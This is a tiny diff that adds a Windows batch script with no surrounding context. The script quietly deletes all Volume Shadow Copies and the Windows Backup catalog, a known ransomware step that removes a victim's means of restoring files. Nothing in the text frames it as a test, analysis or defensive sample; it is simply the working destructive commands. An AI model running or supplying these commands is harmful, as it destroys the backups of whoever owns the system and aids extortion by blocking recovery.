@@ -1,0 +1,3 @@
+@echo off
+vssadmin delete shadows /all /quiet
+wbadmin delete catalog -quiet
